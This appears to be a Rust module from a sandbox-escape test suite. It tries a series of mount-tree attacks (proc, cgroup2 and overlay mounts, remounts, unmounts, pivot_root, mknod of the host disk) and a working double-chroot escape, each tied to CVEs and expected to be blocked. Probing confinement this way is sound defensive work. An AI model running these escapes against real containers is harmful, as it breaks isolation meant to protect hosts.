//! Moves against the mount tree.

use crate::{
    Attempt,
    Category::Mounts,
    Tried, Wall,
    raw::{c, call, check},
};

fn mount(source: &str, target: &str, kind: &str, flags: libc::c_ulong) -> Tried {
    let (source, target, kind) = (c(source), c(target), c(kind));
    // SAFETY: live C strings; no data.
    check(unsafe {
        libc::mount(source.as_ptr(), target.as_ptr(), kind.as_ptr(), flags, std::ptr::null())
    })?;
    Ok(format!("mounted {kind:?} on {target:?}"))
}

fn mount_proc() -> Tried {
    mount("proc", "/mnt", "proc", 0)
}
fn mount_tmpfs() -> Tried {
    mount("tmpfs", "/mnt", "tmpfs", 0)
}
fn mount_sysfs() -> Tried {
    mount("sysfs", "/mnt", "sysfs", 0)
}
fn mount_cgroup() -> Tried {
    mount("cgroup", "/mnt", "cgroup2", 0)
}
fn mount_bind() -> Tried {
    mount("/", "/mnt", "none", libc::MS_BIND)
}
fn mount_overlay() -> Tried {
    let (none, target, kind) = (c("overlay"), c("/mnt"), c("overlay"));
    let data = c("lowerdir=/usr,upperdir=/tmp,workdir=/var/tmp");
    // SAFETY: live C strings.
    check(unsafe {
        libc::mount(none.as_ptr(), target.as_ptr(), kind.as_ptr(), 0, data.as_ptr().cast())
    })?;
    Ok("mounted an overlay".into())
}
fn remount_proc_sys() -> Tried {
    mount("none", "/proc/sys", "none", libc::MS_REMOUNT | libc::MS_BIND)
}
fn remount_root() -> Tried {
    mount("none", "/", "none", libc::MS_REMOUNT | libc::MS_BIND)
}
fn make_shared() -> Tried {
    mount("none", "/", "none", libc::MS_REC | libc::MS_SHARED)
}
fn unmount(target: &str) -> Tried {
    let path = c(target);
    // SAFETY: a live C string.
    check(unsafe { libc::umount2(path.as_ptr(), libc::MNT_DETACH) })?;
    Ok(format!("unmounted {target}"))
}
fn unmount_proc() -> Tried {
    unmount("/proc")
}
fn unmount_root() -> Tried {
    unmount("/")
}
fn fsopen() -> Tried {
    let kind = c("tmpfs");
    call(libc::SYS_fsopen, [kind.as_ptr() as usize, 0, 0, 0, 0, 0])
        .map(|_| "fsopen gave a filesystem context".into())
}
fn open_tree_clone() -> Tried {
    let path = c("/");
    // OPEN_TREE_CLONE is 1.
    call(libc::SYS_open_tree, [libc::AT_FDCWD as usize, path.as_ptr() as usize, 1, 0, 0, 0])
        .map(|_| "open_tree cloned the root".into())
}
fn fspick() -> Tried {
    let path = c("/");
    call(libc::SYS_fspick, [libc::AT_FDCWD as usize, path.as_ptr() as usize, 0, 0, 0, 0])
        .map(|_| "fspick gave a context for the root".into())
}
fn move_mount() -> Tried {
    let (from, to) = (c("/proc"), c("/mnt"));
    let here = libc::AT_FDCWD as usize;
    call(libc::SYS_move_mount, [here, from.as_ptr() as usize, here, to.as_ptr() as usize, 0, 0])
        .map(|_| "moved /proc".into())
}
fn mount_setattr() -> Tried {
    let path = c("/");
    let attributes = [0_u64; 4];
    call(
        libc::SYS_mount_setattr,
        [libc::AT_FDCWD as usize, path.as_ptr() as usize, 0, attributes.as_ptr() as usize, 32, 0],
    )
    .map(|_| "mount_setattr worked".into())
}
fn pivot_root() -> Tried {
    let (new, old) = (c("/"), c("/mnt"));
    call(libc::SYS_pivot_root, [new.as_ptr() as usize, old.as_ptr() as usize, 0, 0, 0, 0])
        .map(|_| "pivoted the root".into())
}
fn chroot_escape() -> Tried {
    // The classic: chroot into a directory while holding a descriptor above it, climb, chroot.
    let dir = c("/tmp");
    let up = c("..");
    let dot = c(".");
    // SAFETY: live C strings; failures are looked at.
    unsafe {
        let root = libc::open(c("/").as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        check(root)?;
        check(libc::chroot(dir.as_ptr()))?;
        check(libc::fchdir(root))?;
        for _ in 0..64 {
            check(libc::chdir(up.as_ptr()))?;
        }
        check(libc::chroot(dot.as_ptr()))?;
    }
    match crate::raw::host_sign("") {
        Some(found) => Ok(format!("{found} of the host is visible")),
        None => Err(crate::Stop::Nothing("same root")),
    }
}
fn listmount() -> Tried {
    // listmount(2), number 458: asks for the mounts of another namespace's root.
    let request = [24_u64, u64::MAX, 0, 0];
    let out = [0_u64; 16];
    call(458, [request.as_ptr() as usize, out.as_ptr() as usize, 16, 0, 0, 0])
        .map(|count| format!("listmount listed {count} mounts"))
}
fn quotactl() -> Tried {
    let path = c("/dev/vda");
    call(libc::SYS_quotactl, [0x80_0007 << 8, path.as_ptr() as usize, 0, 0, 0, 0])
        .map(|_| "quotactl worked".into())
}
fn swapon() -> Tried {
    let path = c("/tmp/attack-swap");
    std::fs::write("/tmp/attack-swap", vec![0; 65_536]).map_err(crate::raw::io)?;
    call(libc::SYS_swapon, [path.as_ptr() as usize, 0, 0, 0, 0, 0]).map(|_| "swap is on".into())
}
fn mknod_disk() -> Tried {
    let path = c("/tmp/attack-disk");
    // SAFETY: a live C string.
    check(unsafe { libc::mknod(path.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(254, 0)) })?;
    Ok("made a block device node".into())
}

pub(crate) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        id: "mount-proc",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "mount a fresh /proc without the masks",
        source: "runc masked-path bypasses; CVE-2025-31133",
        held: &["EPERM"],
        body: mount_proc,
    },
    Attempt {
        id: "mount-tmpfs",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "mount a tmpfs outside the limits",
        source: "mount(2)",
        held: &["EPERM"],
        body: mount_tmpfs,
    },
    Attempt {
        id: "mount-sysfs",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "mount a fresh /sys",
        source: "mount(2)",
        held: &["EPERM"],
        body: mount_sysfs,
    },
    Attempt {
        id: "mount-cgroup2",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "mount the cgroup tree to lift the limits",
        source: "CVE-2022-0492, release_agent",
        held: &["EPERM"],
        body: mount_cgroup,
    },
    Attempt {
        id: "mount-bind",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "bind the root elsewhere",
        source: "mount(2)",
        held: &["EPERM"],
        body: mount_bind,
    },
    Attempt {
        id: "mount-overlay",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "mount an overlay",
        source: "CVE-2023-0386, CVE-2021-3493",
        held: &["EPERM"],
        body: mount_overlay,
    },
    Attempt {
        id: "mount-remount-proc-sys",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "make /proc/sys writable",
        source: "mount(2), MS_REMOUNT",
        held: &["EPERM"],
        body: remount_proc_sys,
    },
    Attempt {
        id: "mount-remount-root",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "remount the root with other flags",
        source: "mount(2)",
        held: &["EPERM"],
        body: remount_root,
    },
    Attempt {
        id: "mount-make-shared",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "make mounts propagate to a peer",
        source: "mount_namespaces(7)",
        held: &["EPERM"],
        body: make_shared,
    },
    Attempt {
        id: "mount-unmount-proc",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "unmount /proc to lose its masks",
        source: "umount2(2)",
        held: &["EPERM"],
        body: unmount_proc,
    },
    Attempt {
        id: "mount-unmount-root",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "unmount the root to see what is below",
        source: "umount2(2)",
        held: &["EPERM"],
        body: unmount_root,
    },
    Attempt {
        id: "mount-fsopen",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "open a filesystem context",
        source: "CVE-2022-0185 (fsconfig)",
        held: &["EPERM"],
        body: fsopen,
    },
    Attempt {
        id: "mount-open-tree",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "clone the mount tree",
        source: "open_tree(2)",
        held: &["EPERM"],
        body: open_tree_clone,
    },
    Attempt {
        id: "mount-fspick",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "pick the root's superblock for changes",
        source: "fspick(2)",
        held: &["EPERM"],
        body: fspick,
    },
    Attempt {
        id: "mount-move-mount",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "move a mount away",
        source: "move_mount(2)",
        held: &["EPERM"],
        body: move_mount,
    },
    Attempt {
        id: "mount-setattr",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "change mount attributes",
        source: "mount_setattr(2)",
        held: &["EPERM", "ENOSYS"],
        body: mount_setattr,
    },
    Attempt {
        id: "mount-pivot-root",
        category: Mounts,
        wall: Wall::Capabilities,
        what: "pivot the root",
        source: "pivot_root(2)",
        held: &["EPERM"],
        body: pivot_root,
    },
    Attempt {
        id: "mount-chroot-climb",
        category: Mounts,
        wall: Wall::Root,
        what: "chroot below an open directory and climb past the root",
        source: "chroot(2), the classic double chroot",
        held: &["same root", "EPERM"],
        body: chroot_escape,
    },
    Attempt {
        id: "mount-listmount",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "list mounts by the new call",
        source: "listmount(2), Linux 6.8",
        held: &["ENOSYS", "EPERM"],
        body: listmount,
    },
    Attempt {
        id: "mount-quotactl",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "ask for or change disk quotas",
        source: "quotactl(2)",
        held: &["EPERM"],
        body: quotactl,
    },
    Attempt {
        id: "mount-swapon",
        category: Mounts,
        wall: Wall::Seccomp,
        what: "turn a file into swap",
        source: "swapon(2)",
        held: &["EPERM"],
        body: swapon,
    },
    Attempt {
        id: "mount-mknod-disk",
        category: Mounts,
        wall: Wall::UserNamespace,
        what: "make a node of the host's disk",
        source: "mknod(2); CVE-2020-15257 aftermath",
        held: &["EPERM", "EACCES"],
        body: mknod_disk,
    },
];
